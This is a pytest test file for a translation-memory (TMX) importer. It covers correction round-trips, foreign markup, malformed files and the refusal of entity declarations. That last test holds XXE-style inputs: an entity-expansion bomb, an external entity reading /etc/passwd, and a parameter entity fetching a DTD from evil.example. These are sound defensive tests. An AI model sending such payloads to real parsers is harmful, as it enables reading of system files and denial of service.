from __future__ import annotations

from pathlib import Path

import hypothesis
import pytest
from hypothesis import strategies

from sahelsum.corrections import HUMAN, MACHINE, Unit, read_tmx, tmx_pieces
from sahelsum.errors import InputError
from sahelsum.records.corrections import Correction

GAO = Correction("de", "Gao & <Kidal> „gut“", 'Gao & <Kidal> "good"')


def written(path: Path, *units: Unit) -> Path:
    path.write_text("".join(tmx_pieces(units, "1.0")), encoding="utf-8")
    return path


def unit(body: str, attributes: str = "") -> str:
    return f'<?xml version="1.0"?><tmx version="1.4"><header/><body><tu{attributes}>{body}</tu></body></tmx>'


def variant(language: str, segment: str) -> str:
    return f'<tuv xml:lang="{language}"><seg>{segment}</seg></tuv>'


def test_corrections_come_back_and_wordings_of_models_do_not(tmp_path: Path) -> None:
    file = written(tmp_path / "a.tmx", Unit(GAO, HUMAN), Unit(Correction("de", "Nein.", "No."), MACHINE))
    imported = read_tmx(file)
    assert imported.corrections == (GAO,)
    assert (imported.machine, imported.other) == (1, 0)


words = strategies.text(strategies.characters(exclude_categories=("C", "Z")), min_size=1, max_size=20)


@hypothesis.given(source=words, text=words)
def test_any_text_comes_back(tmp_path_factory: pytest.TempPathFactory, source: str, text: str) -> None:
    each = Correction("de", source, text)
    hypothesis.assume(source.split() == [source] and text.split() == [text] and "\uffff" not in source + text)
    hypothesis.assume("\ufffe" not in source + text)
    assert read_tmx(written(tmp_path_factory.mktemp("tmx") / "a.tmx", Unit(each, HUMAN))).corrections == (each,)


def test_what_xml_cannot_hold_becomes_visible(tmp_path: Path) -> None:
    file = written(tmp_path / "a.tmx", Unit(Correction("de", "a\x00b\ud800", "c"), HUMAN))
    assert read_tmx(file).corrections == (Correction("de", "a\ufffdb\ufffd", "c"),)


def test_units_of_other_programs_are_read(tmp_path: Path) -> None:
    file = tmp_path / "a.tmx"
    codes = 'Die <bpt i="1">&lt;b&gt;</bpt>Armee<ept i="1">&lt;/b&gt;</ept> <hi>schweigt</hi>.<ph x="2">{0}</ph>'
    file.write_text(unit(variant("DE-de", codes) + variant("en-US", "The army is silent.")), encoding="utf-16")
    assert read_tmx(file).corrections == (Correction("de", "Die Armee schweigt.", "The army is silent."),)


@pytest.mark.parametrize(
    "body",
    [
        variant("de", "Eins."),
        variant("en", "One."),
        variant("de", "Eins.") + variant("en", "  "),
        variant("de", "Eins.") + variant("fr", "Un.") + variant("en", "One."),
        variant("de", "Eins.") + variant("en", "x" * 30_000),
    ],
)
def test_units_that_are_no_pair_are_counted_and_left(tmp_path: Path, body: str) -> None:
    file = tmp_path / "a.tmx"
    file.write_text(unit(body), encoding="utf-8")
    imported = read_tmx(file)
    assert imported.corrections == ()
    assert imported.other == 1


BOMB = '<!DOCTYPE tmx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OTHER_FILE = '<!DOCTYPE tmx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE tmx [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'


@pytest.mark.parametrize("declared", [BOMB, OTHER_FILE, PARAMETER])
def test_entities_are_refused(tmp_path: Path, declared: str) -> None:
    file = tmp_path / "a.tmx"
    file.write_text(
        unit(variant("de", "x") + variant("en", "y")).replace("<tmx", f"{declared}<tmx", 1), encoding="utf-8"
    )
    with pytest.raises(InputError, match="declares entities"):
        read_tmx(file)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        ("", "not well-formed"),
        ("<tmx><body>", "not well-formed"),
        ("<html></html>", "is not TMX"),
        ("plain text", "not well-formed"),
        ('<?xml version="1.0" encoding="x-none"?><tmx/>', "not well-formed"),
        ("<tmx>" + "<a>" * 100, "elements within one another"),
    ],
)
def test_what_is_no_memory_is_refused_in_words(tmp_path: Path, content: str, told: str) -> None:
    file = tmp_path / "a.tmx"
    file.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=told):
        read_tmx(file)
